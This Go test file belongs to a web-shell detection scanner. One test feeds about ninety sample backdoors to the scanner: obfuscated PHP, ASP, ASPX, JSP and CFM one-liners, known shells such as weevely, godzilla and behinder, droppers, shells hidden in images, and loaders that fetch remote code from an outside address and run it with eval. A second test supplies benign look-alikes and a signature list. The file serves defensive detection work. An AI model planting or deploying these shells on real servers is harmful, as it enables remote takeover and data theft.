package script_test

import (
	"strings"
	"testing"

	"spoor/triage"
	"spoor/triage/script"
)

func worst(found []triage.Finding) triage.Level {
	level := triage.None
	for _, f := range found {
		level = max(level, f.Level)
	}
	return level
}

// TestHostile reads the shapes in which one-line evaluators and loaders come. None of them is in a rule's table.
func TestHostile(t *testing.T) {
	for _, c := range []struct{ what, name, text string }{
		{"split superglobal", "a.php", `<?php $g = '_G'.'ET'; ($$g)['a'](($$g)['b']);`},
		{"underscore xor", "a.php", `<?php $_=("#"^"|").("."^"~").("/"^"` + "`" + `").("|"^"/").("{"^"/"); ${$_}[_](${$_}[__]);`},
		{"chr chain", "a.php", `<?php $a=chr(97).chr(115).chr(115).chr(101).chr(114).chr(116);$a($_POST[x]);`},
		{"index into alphabet", "a.php", `<?php $s='abcdefghijklmnopqrstuvwxyz_'; $f=$s[18].$s[24].$s[18].$s[19].$s[4].$s[12]; $f($_GET['q']);`},
		{"old index into alphabet", "a.php", `<?php $s="stem"; $f="sy".$s{0}.$s{1}.$s{2}.$s{3}; $f($_GET['q']);`},
		{"array of pieces", "a.php", `<?php $p=array('ev','sys','tem'); $f=$p[1].$p[2]; echo $f($_REQUEST['c']);`},
		{"implode", "a.php", `<?php $f=implode("",array("s","y","s","t","e","m")); $f($_COOKIE['c']);`},
		{"reversed", "a.php", `<?php $f=strrev("ssap"."")."thru"; $g=strrev("urhtssap"); $g($_POST['c']);`},
		{"comment inside of call", "a.php", `<?php eval/*x*/(/*y*/$_POST/**/['a']/* z */);`},
		{"method of class", "a.php", `<?php class T { var $d; function __construct($x) { $this->d = $x; } function __destruct() { eval($this->d); } } new T($_REQUEST['k']);`},
		{"static method", "a.php", `<?php class T { static function r($c) { return shell_exec($c); } } echo T::r($_GET['c']);`},
		{"closure", "a.php", `<?php $r = function($c) { system($c); }; $r($_GET['c']);`},
		{"loop over request", "a.php", `<?php foreach ($_POST as $k => $v) { $k($v); }`},
		{"header", "a.php", `<?php eval(base64_decode($_SERVER['HTTP_X_TOKEN']));`},
		{"header list", "a.php", `<?php $h = getallheaders(); if (isset($h['X-A'])) { system($h['X-A']); }`},
		{"session between", "a.php", `<?php session_start(); if (isset($_POST['p'])) { $_SESSION['p'] = dec($_POST['p']); } function dec($d) { for ($i=0;$i<strlen($d);$i++) { $d[$i] = $d[$i]^'k'; } return $d; } eval($_SESSION['p']);`},
		{"weevely", "a.php", `<?php $k="80e32263";$kh="6f8af44abea0";$kf="351039f4a7b5";function x($t,$k){$c=strlen($k);$l=strlen($t);$o="";for($i=0;$i<$l;){for($j=0;($j<$c&&$i<$l);$j++,$i++){$o.=$t[$i]^$k[$j];}}return $o;} if(@preg_match("/$kh(.+)$kf/",@file_get_contents("php://input"),$m)==1){@ob_start();@eval(@gzuncompress(@x(@base64_decode($m[1]),$k)));}`},
		{"weevely packed", "a.php", `<?php $t='$p=$Z_POST["k"];Zeval(Z$p);'; $f=str_replace('Q','','cQreQateQ_fuQnction'); $u=str_replace('Z','',$t); $r=$f('',$u); $r();`},
		{"godzilla", "a.php", `<?php @session_start(); @set_time_limit(0); function encode($D,$K){ for($i=0;$i<strlen($D);$i++){ $c=$K[$i+1&15]; $D[$i]=$D[$i]^$c; } return $D; } $pass='pass'; $payloadName='payload'; $key='0123456789abcdef'; if (isset($_POST[$pass])){ $data=encode(base64_decode($_POST[$pass]),$key); if (isset($_SESSION[$payloadName])){ $payload=encode($_SESSION[$payloadName],$key); eval($payload); echo encode(@run($data),$key); } else { $_SESSION[$payloadName]=encode($data,$key); } }`},
		{"behinder", "a.php", `<?php @error_reporting(0); session_start(); $key="0123456789abcdef"; $post=file_get_contents("php://input"); if(!extension_loaded('openssl')) { $t="base64_"."decode"; $post=$t($post.""); for($i=0;$i<strlen($post);$i++) { $post[$i] = $post[$i]^$key[$i+1&15]; } } else { $post=openssl_decrypt($post, "AES128", $key); } $arr=explode('|',$post); $func=$arr[0]; $params=$arr[1]; class C{public function __invoke($p) {eval($p."");}} @call_user_func(new C(),$params);`},
		{"variable of variable", "a.php", `<?php $a='b'; $b='assert'; ${$a}($_POST['x']);`},
		{"globals", "a.php", `<?php $GLOBALS['z']="sys"."tem"; $GLOBALS['z']($_GET['x']);`},
		{"define", "a.php", `<?php define('F', str_rot13('flfgrz')); $f = F; $f($_GET['c']);`},
		{"heredoc", "a.php", "<?php $c = <<<X\n{$_GET['c']}\nX;\nsystem($c);"},
		{"ternary", "a.php", `<?php $c = isset($_GET['c']) ? $_GET['c'] : 'id'; passthru($c);`},
		{"null coalescing", "a.php", `<?php system($_GET['c'] ?? 'id');`},
		{"double encoded", "a.php", `<?php eval(base64_decode("` + b64(`eval(base64_decode("`+b64(`@eval($_POST['q']);`)+`"));`) + `"));`},
		{"heredoc picture include", "a.php", `<?php @include("\x2fvar/www/\x2fwp-content/uploads/.a1b2.ico");`},
		{"short tags", "a.php", `<?=@$_GET[0]($_GET[1])?>`},
		{"script tag", "a.phtml", `<script language="php">eval($_POST[1]);</script>`},
		{"reflection", "a.php", `<?php $r = new ReflectionFunction("sys"."tem"); $r->invoke($_GET['c']);`},
		{"callback of filter", "a.php", `<?php $x = array($_POST['a']); array_filter($x, base64_decode('YXNzZXJ0'));`},
		{"register shutdown", "a.php", `<?php register_shutdown_function('ass'.'ert', $_REQUEST['q']);`},
		{"uploader", "a.php", `<?php if(@copy($_FILES['f']['tmp_name'], $_FILES['f']['name'])) echo 'ok';`},
		{"dropper", "a.php", `<?php file_put_contents($_GET['n'].'.php', base64_decode($_GET['d']));`},
		{"asp execute", "a.asp", `<%ExecuteGlobal(request("a"))%>`},
		{"asp split name", "a.asp", `<% dim x : x = request.form("p") : if x <> "" then execute x end if %>`},
		{"asp function", "a.asp", "<%\nFunction d(s)\n  d = s\nEnd Function\nset o = CreateObject(\"MSScriptControl.ScriptControl\")\no.Language = \"VBScript\"\no.AddCode(request(\"c\"))\n%>"},
		{"asp jscript", "a.asp", `<%@ language="JScript" %><% eval(String(Request.Form("z"))); %>`},
		{"asp shell", "a.asp", "<%\nSet s = CreateObject(\"WScr\" & \"ipt.Shell\")\nSet e = s.exec(\"cmd /c \" & Request.QueryString(\"c\"))\nResponse.Write e.StdOut.ReadAll\n%>"},
		{"aspx item", "a.aspx", `<%@ Page Language="Jscript" validateRequest="false" %><%Response.Write(eval(Request.Item["w"],"unsafe"));%>`},
		{"aspx split", "a.aspx", `<%@Page Language=JScript%><%var p=Request.Item["z"];var a=p.substring(0,1);var b=p.substring(1);eval(a+b,"unsafe");%>`},
		{"aspx handler", "a.ashx", `<%@ WebHandler Language="C#" Class="H" %> using System.Web; public class H : IHttpHandler { public void ProcessRequest(HttpContext context) { System.Diagnostics.Process p = new System.Diagnostics.Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Arguments = "/c " + context.Request["c"]; p.Start(); } }`},
		{"aspx vb", "a.aspx", "<%@ Page Language=\"VB\" %>\n<script runat=\"server\">\nSub Page_Load()\n  Dim p As New ProcessStartInfo()\n  p.FileName = \"cmd.exe\"\n  p.Arguments = \"/c \" & Request.QueryString(\"c\")\n  Process.Start(p)\nEnd Sub\n</script>"},
		{"aspx assembly", "a.aspx", `<%@ Page Language="C#" %><% if (Request["p"] != null) { byte[] d = Convert.FromBase64String(Request["p"]); var a = System.Reflection.Assembly.Load(d); a.CreateInstance("X"); } %>`},
		{"aspx write", "a.aspx", `<%@ Page Language="C#" %><%if (Request.Files.Count!=0) { Request.Files[0].SaveAs(Server.MapPath(Request["f"])); }%>`},
		{"jsp array", "a.jsp", `<% String[] c = {"/bin/sh","-c",request.getParameter("x")}; java.io.InputStream in = Runtime.getRuntime().exec(c).getInputStream(); %>`},
		{"jsp method", "a.jsp", `<%! String run(String q) throws Exception { Process p = Runtime.getRuntime().exec(q); return ""; } %><% String z = request.getParameter("z"); out.print(run(z)); %>`},
		{"jsp unicode", "a.jsp", `<% \u0052untime.getRuntime().\u0065xec(request.getParameter("x")); %>`},
		{"jsp godzilla", "a.jsp", `<%! String xc="3c6e0b8a9c15224a"; class X extends ClassLoader{public X(ClassLoader z){super(z);}public Class Q(byte[] cb){return super.defineClass(cb, 0, cb.length);} } public byte[] x(byte[] s,boolean m){ try{javax.crypto.Cipher c=javax.crypto.Cipher.getInstance("AES");return c.doFinal(s); }catch (Exception e){return null; }} %><%try{byte[] data=new byte[Integer.parseInt(request.getHeader("Content-Length"))];java.io.InputStream inputStream= request.getInputStream();int _num=0;while ((_num+=inputStream.read(data,_num,data.length))<data.length);data=x(data, false);if (session.getAttribute("payload")==null){session.setAttribute("payload",new X(this.getClass().getClassLoader()).Q(data));}}catch (Exception e){}%>`},
		{"jspx", "a.jspx", `<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="1.2"><jsp:scriptlet>Runtime.getRuntime().exec(request.getParameter(&quot;c&quot;));</jsp:scriptlet></jsp:root>`},
		{"jsp expression language", "a.jsp", `${Runtime.getRuntime().exec(param.c)}`},
		{"cfm java", "a.cfm", `<cfscript>rt = createObject("java","java.lang.Runtime").getRuntime(); rt.exec(url.c);</cfscript>`},
		{"cfm variable", "a.cfm", `<cfset c = "/c " & form.c><cfexecute name="cmd.exe" arguments="#c#" variable="o"></cfexecute>`},
		{"python", "a.py", "#!/usr/bin/python\nimport cgi, subprocess\nf = cgi.FieldStorage()\ncmd = f['c'].value\nprint(subprocess.check_output(cmd, shell=True))\n"},
		{"perl", "a.pl", "#!/usr/bin/perl\nuse CGI;\nmy $cmd = param('c');\nsystem($cmd);\n"},
		{"double extension", "a.php.jpg", `<?php system($_GET['c']); ?>`},
		{"picture", "a.png", "\x89PNG\r\n\x1a\n\x00\x00IDAT<?php eval($_REQUEST['q']);?>\x00\x00IEND"},
		{"htaccess", ".htaccess", "<Files ~ \"^\\.ht\">\nAllow from all\n</Files>\nAddType application/x-httpd-php .htaccess\n# <?php system($_GET['c']); ?>"},
		{"web.config asp", "web.config", `<?xml version="1.0"?><configuration><system.webServer><handlers><add name="a" path="*.config" verb="*" modules="IsapiModule" scriptProcessor="%windir%\system32\inetsrv\asp.dll"/></handlers></system.webServer></configuration><!-- <% eval request("a") %> -->`},
		{"further 1", "h.php", `<?php if(isset($_REQUEST['cmd'])){ echo "<pre>"; $cmd = ($_REQUEST['cmd']); system($cmd); echo "</pre>"; die; }?>`},
		{"further 2", "h.php", `<?php $c = fopen('http://198.51.100.3/x.txt','r'); $d = stream_get_contents($c); eval($d);`},
		{"further 3", "h.php", `<?php $ch = curl_init("http://198.51.100.3/a"); curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1); $r = curl_exec($ch); eval("?>".$r);`},
		{"further 4", "h.php", `<?php class A{public $n; public $p; function r(){ $f=$this->n; return $f($this->p);} } $a=new A; $a->n=$_GET['n']; $a->p=$_GET['p']; $a->r();`},
		{"further 6", "h.php", `<?php extract($_REQUEST); @$f($p);`},
		{"further 7", "h.php", `<?php parse_str($_SERVER['QUERY_STRING']); eval($c);`},
		{"further 8", "h.php", `<?php $k = "k"; $t = base64_decode("LwYWGw=="); for($i=0;$i<strlen($t);$i++) $o.= $t[$i]^$k; $o($_POST['z']);`},
		{"further 9", "h.php", `<?php @$_="s"."s"./*-/*-*/"e"./*-/*-*/"r"; @$_=/*-/*-*/"a"./*-/*-*/$_./*-/*-*/"t"; @$_/*-/*-*/($/*-/*-*/{"_P"./*-/*-*/"OS"./*-/*-*/"T"}[/*-/*-*/0/*-/*-*/-/*-/*-*/2]);`},
		{"further 10", "h.php", `<?php mb_ereg_replace('.*', $_REQUEST['op'], '', 'e');`},
		{"further 11", "h.php", `<?php $f = $_GET['f']; $f = 'preg_'.'replace'; $f('/a/e', $_POST['x'], 'a');`},
		{"further 12", "h.php", `<?php ($_=@$_GET[2]).@$_($_POST[1])?>`},
		{"further 13", "h.php", `<?php $fn = function() { return func_get_args(); }; $a = 'shell_'.'exec'; print_r($a($_SERVER['HTTP_USER_AGENT']));`},
		{"further 14", "h.php", `<?php $s = 'a'; $s .= 's'; $s .= 'sert'; @$s($_REQUEST['x']);`},
		{"further 15", "h.php", `<?php foreach (array('_POST') as $g) { eval($$g['x']); }`},
		{"further 16", "h.php", `<?php $f = gzinflate(base64_decode('K0otzUxUBwA=')); include_once $_FILES['u']['tmp_name'];`},
		{"further 18", "h.php", `<?php if (md5($_POST['pass']) == '21232f297a57a5a743894a0e4a801fc3') { eval(base64_decode($_POST['code'])); }`},
		{"further 19", "h.php", `<?php $a=$_COOKIE; $n=0; $u=array(); if(count($a)==3){ $u[$n]=$a[0].$a[1]; $u[1]=$u[$n]($a[2]); $u[1](); }`},
		{"further 21", "h.asp", `<%Function b(s) : b = s : End Function : Execute(b(Request.Form("x")))%>`},
		{"further 22", "h.asp", "<%\r\nDim a\r\na=request(\"x\")\r\nIf a<>\"\" Then ExecuteGlobal(a)\r\n%>"},
		{"further 23", "h.asp", `<%set x=server.createobject("adodb.stream"):x.open:x.type=1:x.write request.binaryread(request.totalbytes):x.savetofile server.mappath("a.asp"),2%>`},
		{"further 24", "h.asp", `<script language="vbscript" runat="server">execute request("l")</script>`},
		{"further 25", "h.asp", `<% Set fso=Server.CreateObject("Scripting.FileSystemObject") : Set f=fso.CreateTextFile(Request("p")) : f.Write Request("d") %>`},
		{"further 26", "h.aspx", `<%@ Page Language="C#" %><%@ Import Namespace="System.CodeDom.Compiler" %><% CodeDomProvider p = CodeDomProvider.CreateProvider("CSharp"); var r = p.CompileAssemblyFromSource(new CompilerParameters(), Request.Form["c"]); %>`},
		{"further 27", "h.aspx", `<%@ Page Language="C#" %><% string x = Request.Headers["X"]; if (x != null) { Process q = new Process(); q.StartInfo = new ProcessStartInfo("cmd.exe", "/c " + x); q.Start(); } %>`},
		{"further 28", "h.aspx", `<%@ Page Language="C#"%><%@Import Namespace="System.Reflection"%><%Session.Add("k","e45e329feb5d925b"); byte[] k = Encoding.Default.GetBytes(Session[0] + ""),c = Request.BinaryRead(Request.ContentLength);Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this);%>`},
		{"further 29", "h.ashx", "<%@ WebHandler Language=\"C#\" Class=\"U\" %>\nusing System; using System.IO; using System.Web;\npublic class U : IHttpHandler { public void ProcessRequest(HttpContext ctx) { StreamWriter w = File.CreateText(ctx.Server.MapPath(ctx.Request[\"f\"])); w.Write(ctx.Request[\"d\"]); w.Flush(); } }"},
		{"further 30", "h.jsp", `<%@page import="java.util.*,java.io.*"%><% if (request.getParameter("cmd") != null) { Process p; if (System.getProperty("os.name").toLowerCase().indexOf("windows") != -1){ p = Runtime.getRuntime().exec("cmd.exe /C " + request.getParameter("cmd")); } else { p = Runtime.getRuntime().exec(request.getParameter("cmd")); } } %>`},
		{"further 31", "h.jsp", `<% Class rt = Class.forName("java.lang.Runtime"); Object o = rt.getMethod("getRuntime").invoke(null); rt.getMethod("exec", String.class).invoke(o, request.getParameter("x")); %>`},
		{"further 32", "h.jsp", `<% String s = new String(java.util.Base64.getDecoder().decode("amF2YS5sYW5nLlJ1bnRpbWU=")); Class c = Class.forName(s); c.getMethod("ex"+"ec", String.class).invoke(c.getMethod("getRuntime").invoke(null), request.getParameter("x")); %>`},
		{"further 33", "h.jsp", `<%@ page import="java.net.*" %><% String t = request.getHeader("X-TARGET"); SocketChannel sc = SocketChannel.open(); sc.connect(new InetSocketAddress(t, 80)); %>`},
		{"further 34", "h.cfm", `<cfif isDefined("url.c")><cfexecute name="/bin/sh" arguments='-c "#url.c#"' timeout="10" variable="r"/><cfoutput>#r#</cfoutput></cfif>`},
		{"further 35", "h.cfm", `<cffile action="write" file="#expandPath(form.f)#" output="#form.d#">`},
		{"further 36", "h.cfm", `<cffile action="upload" filefield="f" destination="#expandPath('.')#" nameconflict="overwrite">`},
		{"further 38", "h.py", "#!/usr/bin/env python\nimport os\nprint(os.popen(os.environ['QUERY_STRING']).read())\n"},
		{"further 39", "h.sh", "#!/bin/bash\necho \"Content-type: text/html\"\necho\neval `echo $QUERY_STRING`\n"},
		{"further 40", "h.php", `<?php $s = @fsockopen($_POST['h'], $_POST['p']); while (!feof($s)) { echo fread($s, 512); } fwrite($s, file_get_contents('php://input'));`},
	} {
		got := script.Read(c.name, []byte(c.text))
		if worst(got.Findings) < triage.Medium {
			t.Errorf("%s: nothing of medium or above in %s\nfound %+v", c.what, c.text, got)
		}
	}
}

// TestBenign reads what honest code looks like that uses the same functions: content managers, template engines,
// mailers, updaters, file editors, test runners.
func TestBenign(t *testing.T) {
	for _, c := range []struct{ what, name, text string }{
		{"template engine", "Template.php", `<?php class Template { function fetch($file) { $compiled = $this->compile(file_get_contents($file)); ob_start(); eval('?>' . $compiled); return ob_get_clean(); } }`},
		{"smarty eval tag", "function.eval.php", `<?php function smarty_function_eval($params, $template) { if (!isset($params['var'])) { trigger_error("eval: missing 'var' parameter"); return; } $tpl = $template->smarty->createTemplate('eval:' . $params['var']); return $tpl->fetch(); }`},
		{"mailer", "mailer.php", `<?php class Mailer { protected function popenSend($body) { $sendmail = sprintf('%s -oi -t', escapeshellcmd($this->Sendmail)); $mail = @popen($sendmail, 'w'); fwrite($mail, $body); $result = pclose($mail); } function decode($s) { return base64_decode($s); } }`},
		{"updater", "update.php", `<?php if (!current_user_can('update_plugins')) { wp_die('no'); } check_admin_referer('upgrade'); $file = download_url($url); $fs->put_contents($dest, file_get_contents($file)); $body = unserialize(wp_remote_retrieve_body($r));`},
		{"admin file editor", "theme-editor.php", `<?php if (!current_user_can('edit_themes')) wp_die('x'); check_admin_referer('edit-theme_' . $_POST['file']); $newcontent = wp_unslash($_POST['newcontent']); $file = $_POST['file']; $f = fopen($file, 'w+'); if ($f) { fwrite($f, $newcontent); fclose($f); }`},
		{"legacy create_function", "compat.php", `<?php $fn = create_function('$a,$b', 'return strcmp($a["x"], $b["x"]);'); usort($list, $fn); $clean = array_map('stripslashes', $_POST); array_walk($_GET, 'trim');`},
		{"preg e of old", "format.php", `<?php $s = preg_replace('/(\w+)/e', "strtoupper('\\1')", $title); $q = preg_replace("/[^a-z]/", "", $_GET['q']);`},
		{"dispatcher", "index.php", `<?php $action = isset($_GET['action']) ? preg_replace('/\W/', '', $_GET['action']) : 'index'; $c = new Controller(); $m = 'action' . ucfirst($action); if (method_exists($c, $m)) { $c->$m($_POST); }`},
		{"front controller by table", "index.php", `<?php $pages = array('home' => 'home.php', 'shop' => 'shop.php'); $p = $_GET['p']; if (isset($pages[$p])) include 'pages/' . $pages[$p];`},
		{"form to mail", "contact.php", `<?php $to = 'a@example.org'; $m = htmlspecialchars($_POST['message']); mail($to, 'contact', $m, 'From: ' . $_POST['mail']); header('Location: thanks.html');`},
		{"picture resizing", "thumb.php", `<?php $src = 'img/' . basename($_GET['src']); $w = (int) $_GET['w']; $cmd = 'convert ' . escapeshellarg($src) . ' -resize ' . $w . ' -'; passthru($cmd);`},
		{"export by shell", "backup.php", `<?php $cfg = parse_ini_file('db.ini'); exec("mysqldump -u {$cfg['user']} {$cfg['name']} > /backup/" . date('Ymd') . ".sql"); echo isset($_GET['v']) ? 'done' : '';`},
		{"installer", "install.php", `<?php $host = addslashes($_POST['host']); $conf = "<?php\ndefine('DB_HOST', '" . $host . "');\n"; if (isadmin()) file_put_contents('config.php', $conf);`},
		{"gallery upload", "upload.php", `<?php $ext = strtolower(pathinfo($_FILES['f']['name'], PATHINFO_EXTENSION)); if (in_array($ext, array('jpg','png'))) { move_uploaded_file($_FILES['f']['tmp_name'], 'up/' . uniqid() . '.' . $ext); }`},
		{"counter", "hit.php", `<?php $f = fopen('hits.log', 'a'); fwrite($f, $_SERVER['REMOTE_ADDR'] . ' ' . $_SERVER['HTTP_USER_AGENT'] . "\n"); fclose($f);`},
		{"autoloader", "autoload.php", `<?php spl_autoload_register(function ($class) { $f = __DIR__ . '/' . str_replace('\\', '/', $class) . '.php'; if (is_file($f)) require $f; }); return call_user_func(array('Init', 'getLoader'));`},
		{"polyfill", "random.php", `<?php if (!function_exists('random_bytes')) { function random_bytes($n) { $fp = fopen('/dev/urandom', 'rb'); return fread($fp, $n); } } $tok = bin2hex(random_bytes(16)); setcookie('t', $tok);`},
		{"cache", "cache.php", `<?php $key = md5($_SERVER['REQUEST_URI']); $file = "cache/$key.php"; if (is_file($file)) { include $file; exit; } file_put_contents($file, '<?php return ' . var_export($data, true) . ';');`},
		{"plugin with icon", "plugin.php", `<?php function icon() { return 'data:image/svg+xml;base64,' . base64_encode('<svg></svg>'); } $logo = base64_decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk+A8AAQUBAScY42YAAAAASUVORK5CYII='); header('Content-Type: image/png'); echo $logo;`},
		{"ajax hook", "admin-ajax.php", `<?php define('DOING_AJAX', true); require_once dirname(__DIR__) . '/load.php'; if (empty($_REQUEST['action'])) die('0'); $action = $_REQUEST['action']; if (!has_action("ajax_{$action}")) die('0'); do_action("ajax_{$action}");`},
		{"shortcode", "shortcodes.php", `<?php function do_tag($m) { global $tags; $tag = $m[2]; if (!is_callable($tags[$tag])) return $m[0]; return call_user_func($tags[$tag], $m[3], $m[5]); } $c = preg_replace_callback('/x/', 'do_tag', $content);`},
		{"test runner", "Process.php", `<?php class Process { public function start() { $this->process = proc_open($this->commandline, $this->getDescriptors(), $this->pipes, $this->cwd); } }`},
		{"assertions", "Parser.php", `<?php assert($node instanceof Node); assert(is_string($x)); assert('$a > 0');`},
		{"extract in view", "view.php", `<?php function view($name, $data) { extract($data); ob_start(); include "views/$name.php"; return ob_get_clean(); } echo view('home', array('q' => $_GET['q']));`},
		{"webhook", "hook.php", `<?php $payload = json_decode(file_get_contents('php://input'), true); if (hash_equals($sig, hash_hmac('sha256', json_encode($payload), $secret))) { if ($payload['ref'] === 'refs/heads/main') { shell_exec('cd /srv/site && git pull 2>&1'); } }`},
		{"rest api", "api.php", `<?php $in = json_decode(file_get_contents("php://input")); $st = $pdo->prepare("SELECT * FROM t WHERE id = ?"); $st->execute(array($in->id)); echo json_encode($st->fetchAll());`},
		{"pdo exec", "db.php", `<?php $n = $pdo->exec("UPDATE t SET n = n + 1 WHERE id = " . (int) $_POST['id']); $r = mysqli_query($db, "SELECT 1");`},
		{"signature list", "scanner.php", `<?php $signatures = array('eval(base64_decode(', 'eval($_POST', 'c99shell', 'system($_GET'); foreach ($signatures as $s) if (strpos($text, $s) !== false) $hits++;`},
		{"asp form", "form.asp", "<%\nDim rs\nSet rs = Server.CreateObject(\"ADODB.Recordset\")\nrs.Open \"SELECT * FROM t WHERE id=\" & CInt(Request(\"id\")), conn\nResponse.Write Server.HTMLEncode(rs(\"name\"))\nconn.Execute \"UPDATE t SET n=1 WHERE id=\" & CLng(Request(\"id\"))\n%>"},
		{"asp regexp", "search.asp", `<%@ language="JScript" %><% var re = /a/; var m = re.exec(Request.Form("q")); Response.Write(m); %>`},
		{"aspx databind", "list.aspx", `<%@ Page Language="C#" AutoEventWireup="true" CodeFile="list.aspx.cs" %><asp:Label Text='<%# Eval("Name") %>' runat="server" /><%= Server.HtmlEncode(Request.QueryString["q"]) %>`},
		{"aspx convert", "pdf.ashx", `<%@ WebHandler Language="C#" Class="P" %> using System.Diagnostics; public class P : IHttpHandler { public void ProcessRequest(HttpContext c) { int id = int.Parse(c.Request["id"]); var p = Process.Start("wkhtmltopdf.exe", "http://localhost/print/" + id); p.WaitForExit(); } }`},
		{"aspx thread", "bg.aspx", `<%@ Page Language="C#" %><% var t = new System.Threading.Thread(Work); t.Start(); timer.Start(); string q = Request["q"]; %>`},
		{"jsp bean", "cart.jsp", `<%@ page import="java.util.*" %><jsp:useBean id="cart" class="shop.Cart"/><% String id = request.getParameter("id"); cart.add(Integer.parseInt(id)); Class c = Class.forName("com.mysql.jdbc.Driver"); %>${param.q}`},
		{"jsp reflection", "debug.jsp", `<% Object o = session.getAttribute("user"); java.lang.reflect.Method m = o.getClass().getMethod("getName"); out.print(m.invoke(o)); %>`},
		{"cfm page", "page.cfm", `<cfparam name="url.id" default="0"><cfquery name="q" datasource="d">SELECT * FROM t WHERE id = <cfqueryparam value="#url.id#" cfsqltype="cf_sql_integer"></cfquery><cfoutput query="q">#HTMLEditFormat(name)#</cfoutput><cfif evaluate("1+1") eq 2>x</cfif>`},
		{"python site", "app.py", "import os, subprocess\nfrom flask import request\nname = request.args.get('name')\nprint('hello ' + name)\nsubprocess.check_output(['git', 'rev-parse', 'HEAD'])\n"},
		{"perl counter", "count.cgi", "#!/usr/bin/perl\nuse CGI;\nmy $q = new CGI;\nopen(F, '<', 'count.txt'); my $n = <F>; close(F);\nprint $q->header, $n + 1;\n"},
		{"readme with code", "readme.txt", "Use <?php eval($x); ?> with care.\n"},
		{"minified script", "app.js", `eval(function(p,a,c,k,e,d){while(c--)if(k[c])p=p.replace(new RegExp('\\b'+c+'\\b','g'),k[c]);return p}('0',1,1,'x'.split('|'),0,{}))`},
		{"xml", "feed.xml", `<?xml version="1.0"?><rss><channel><title>eval</title></channel></rss>`},
		{"picture with metadata", "a.jpg", "\xff\xd8\xff\xe1\x00\x00http://ns.adobe.com/xap/1.0/\x00<?xpacket begin=\"\" id=\"x\"?><x:xmpmeta/><?xpacket end=\"w\"?><?=\x00\x12"},
	} {
		got := script.Read(c.name, []byte(c.text))
		if worst(got.Findings) >= triage.Medium {
			t.Errorf("%s: %s\nfound %+v", c.what, strings.Join(strings.Fields(c.text), " "), got.Findings)
		}
	}
}
